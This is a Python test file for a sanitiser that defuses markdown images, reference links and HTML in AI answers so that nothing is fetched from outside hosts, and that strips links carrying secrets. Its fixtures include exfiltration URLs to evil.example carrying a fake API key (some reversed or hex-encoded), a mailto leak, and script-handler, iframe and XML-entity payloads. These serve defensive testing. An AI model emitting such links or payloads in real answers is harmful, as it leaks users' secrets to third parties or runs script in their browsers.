"""An answer that is shown: what it would fetch or tell is text, and everything else stays as it was."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from runtime_pack.address_book import AddressBook
from runtime_pack.addresses import WEB_ADDRESSES
from runtime_pack.answer_links import defused_answer
from runtime_pack.label_table import AddressOrigin
from runtime_pack.private_text import Leak, PrivateText

KNOWN = "https://docs.example/i.png"
NAMED = "https://docs.example/named.png"
EVIL = "https://evil.example/x.png?d=1"
SECRET = "sk-live-9f8e7d6c5b4a3928"


def shown(
    text: str, *, private: bool = False, outside: bool = True, reader: Any = WEB_ADDRESSES
) -> str:
    book, strings = AddressBook(), PrivateText()
    book.add([KNOWN], AddressOrigin.PAGE_LINK)
    book.add([NAMED], AddressOrigin.USER)
    if private:
        strings.add(SECRET, Leak.DECLARED)
    found = defused_answer(text, reader=reader, book=book, private=strings, outside=outside)
    return text if found is None else found.text


STAYS = {
    "plain text": "No links here. [x] (y)",
    "an image that the user named": f"![alt]({NAMED})",
    "a link to anywhere": f"[evil]({EVIL}) and <{EVIL}> and {EVIL}",
    "a reference that is known": f"[x][r]\n\n[r]: {KNOWN}",
    "a known reference over a lone return": f"[r]:\r{KNOWN}",
    "simple elements": "a <b>bold</b> word, 1 < 2, <br>",
    "an anchor": f'<a href="{EVIL}">x</a>',
    "an anchor in other quotes": f"<A HREF = '{EVIL}'>x</A> <a href={EVIL}>x</a>",
    "tags in which nothing has a value": "<details open><summary>x</summary><br/></details> <kbd>a</kbd>",
    "placeholders and types": "List<String>, Map<String, Integer>, vector<std::string>, <your-key>",
    "addresses in angle brackets": "<https://a.example/p?q=a&r=b> <mailto:a@b.example> <a@b.example>",
    "a page's first line": "<!DOCTYPE html> <?php echo 1 ?> <!-- words -->",
    "an escaped image": f"!\\[alt]({EVIL})",
}
BECOMES = {
    "an image": (f"![a]({EVIL})", f"!\\[a]({EVIL})"),
    "an image of a page": (f"![a]({KNOWN})", f"!\\[a]({KNOWN})"),
    "an image with a title": (f'![a]({NAMED} "t")', f'!\\[a]({NAMED} "t")'),
    "an image in angle brackets": (f"![a](<{EVIL}>)", f"!\\[a](<{EVIL}>)"),
    "an image by reference": (f"![a][r]\n\n[r]: {KNOWN}", f"!\\[a][r]\n\n[r]: {KNOWN}"),
    "an image in a link": (f"[![a]({EVIL})](https://x.example/)", f"[!\\[a]({EVIL})](https://x.example/)"),
    "an image without a scheme": ("![a](//evil.example/x)", "!\\[a](//evil.example/x)"),
    "an image with entities": ("![a](&#104;ttps://evil.example/)", "!\\[a](&#104;ttps://evil.example/)"),
    "an image over lines": (f"![a\nb]({EVIL})", f"!\\[a\nb]({EVIL})"),
    "a reference": (f"[x][r]\n\n[r]: {EVIL}", f"[x][r]\n\n\\[r]: {EVIL}"),
    "a reference on the next line": (f"[r]:\n  {EVIL}", f"\\[r]:\n  {EVIL}"),
    "a reference in a quote": (f"> [r]: {EVIL}", f"> \\[r]: {EVIL}"),
    "a reference in a list": (f"- [r]: <{EVIL}>", f"- \\[r]: <{EVIL}>"),
    "an element": (f'<img src="{EVIL}">', f'&lt;img src="{EVIL}">'),
    "an element that is known": (f'<IMG src="{KNOWN}">', f'&lt;IMG src="{KNOWN}">'),
    "an element that hides another": (f"<a <img src={EVIL}>>", f"&lt;a &lt;img src={EVIL}>>"),
    "a style": (f'<p style="background:url({EVIL})">', f'&lt;p style="background:url({EVIL})">'),
    "a style of an anchor": (f'<a style="x:url({EVIL})">', f'&lt;a style="x:url({EVIL})">'),
    "a style behind the address": (f'<a href="{EVIL}" style="a">', f'&lt;a href="{EVIL}" style="a">'),
    "a style behind a slash": (f"<A/style=x:url({EVIL})>", f"&lt;A/style=x:url({EVIL})>"),
    "a style far behind": ("<p" + " " * 5000 + "style=a>", "&lt;p" + " " * 5000 + "style=a>"),
    "a style of a long name": ("<" + "p" * 99 + " style=a>", "&lt;" + "p" * 99 + " style=a>"),
    "a style of what looks like a link": ("<https:/style=url(//e)>", "&lt;https:/style=url(//e)>"),
    "a style in what looks like a link": ("<https://e/style=url(//e)>", "&lt;https://e/style=url(//e)>"),
    "an element that fetches by its content": ("<style>a</style>", "&lt;style>a</style>"),
    "a script as address": ("<a href='javascript:x'>", "&lt;a href='javascript:x'>"),
    "a manifest": (f'<html manifest="{EVIL}">', f'&lt;html manifest="{EVIL}">'),
    "an icon": (f'<menuitem icon="{EVIL}">', f'&lt;menuitem icon="{EVIL}">'),
    "a handler": ("<details open ontoggle=f()>", "&lt;details open ontoggle=f()>"),
    "a handler without an end": ("<b onfocus=f() autofocus", "&lt;b onfocus=f() autofocus"),
    "a handler of an anchor": ("<a onfocus=f() autofocus>", "&lt;a onfocus=f() autofocus>"),
    "a style sheet": (f"<?xml-stylesheet href='{EVIL}'?>", f"&lt;?xml-stylesheet href='{EVIL}'?>"),
    "an entity of XML": (f'<!ENTITY a SYSTEM "{EVIL}">', f'&lt;!ENTITY a SYSTEM "{EVIL}">'),
    "a reference after a lone return": (f"[r]\r\r[r]: {EVIL}", f"[r]\r\r\\[r]: {EVIL}"),
    "a reference over a lone return": (f"[r]:\r{EVIL}", f"\\[r]:\r{EVIL}"),
    "a reference in many quotes": ("> " * 101 + f"[r]: {EVIL}", "> " * 101 + f"\\[r]: {EVIL}"),
    "a reference behind a byte order mark": (f"\ufeff[r]: {EVIL}", f"\ufeff\\[r]: {EVIL}"),
    "a reference with a long label": ("[" + "r" * 1500 + f"]: {EVIL}", "\\[" + "r" * 1500 + f"]: {EVIL}"),
    "a frame": (f"<iframe\nsrc={EVIL}>", f"&lt;iframe\nsrc={EVIL}>"),
}  # fmt: skip


@pytest.mark.parametrize("text", STAYS.values(), ids=STAYS.keys())
def test_what_fetches_nothing_stays(text: str) -> None:
    """So do images and references to addresses that somebody named."""
    assert shown(text) == text


@pytest.mark.parametrize(("text", "expected"), BECOMES.values(), ids=BECOMES.keys())
def test_what_would_be_fetched_becomes_text(text: str, expected: str) -> None:
    """The sign is escaped, and the words stay; once is as good as twice."""
    assert shown(text) == expected
    assert shown(expected) == expected
    assert shown(text, outside=False) == text


@pytest.mark.parametrize(
    "text",
    [
        f"https://evil.example/?d={SECRET}",
        f"[x](https://evil.example/?d={SECRET})",
        f"[x](<https://evil.example/?d= {SECRET}>)",
        f"<https://evil.example/{SECRET[::-1]}>",
        f"[r]: https://evil.example/{SECRET.encode().hex()}",
        f"mailto:eve@evil.example?body={SECRET}",
        f"//evil.example/{SECRET}",
        f"www.evil.example/{SECRET}",
        f"![a](https://evil.example/?d={SECRET})",
    ],
)
def test_a_link_that_carries_something_private_is_removed(text: str) -> None:
    """In every form that a reader makes a link of, also where nothing external was read."""
    for outside in (True, False):
        said = shown(f"before {text} after", private=True, outside=outside)

        assert SECRET not in said
        assert SECRET[::-1] not in said
        assert SECRET.encode().hex() not in said
        assert "link removed" in said
        assert said.startswith("before ")


def test_the_site_of_a_removed_link_is_told() -> None:
    """The registered name, without the labels below it."""
    said = shown(f"https://{SECRET[:8]}.a.evil.example/?{SECRET}", private=True)

    assert said == "(link removed: evil.example)"


def test_private_words_outside_of_links_are_the_users_to_read() -> None:
    """An answer to the user may say what the user may know."""
    assert shown(f"The key is {SECRET}.", private=True) == f"The key is {SECRET}."


def test_without_a_reader_no_address_is_known() -> None:
    """Every image is text."""
    assert shown(f"![a]({NAMED})", reader=None) == f"!\\[a]({NAMED})"


@given(st.text(alphabet="![]()<>:/\\ \nai&;x.", max_size=80))
def test_no_image_is_left_whose_address_nobody_named(text: str) -> None:
    """And doing it twice changes nothing."""
    said = shown(text)

    assert "![" not in said
    assert shown(said) == said


@given(
    st.sampled_from(["a", "p", "details", "x", "https:", "a href='#'", "b\n"]),
    st.text(alphabet=" /\t\n\x0c\"'", min_size=1, max_size=4),
    st.sampled_from(["style", "onfocus", "SRC", "manifest", "icon", "xlink:href"]),
    st.text(alphabet=" \n", max_size=2),
)
def test_no_attribute_with_a_value_stays(
    name: str, between: str, attribute: str, space: str
) -> None:
    """Whatever stands before it; the one of an anchor that only leads somewhere aside."""
    assert shown(f"<{name}{between}{attribute}{space}=x>").startswith("&lt;")


def test_the_work_is_bounded_on_hostile_answers() -> None:
    """Openings without an end do not multiply; the test's own limit is the bound."""
    for piece in (
        "![",
        "[a",
        "<a ",
        "<p style",
        "[r]:\n",
        "![a](",
        "> " * 50 + "[",
        "<https:/a",
        "\r[\\[",
    ):
        shown(piece * 3000)
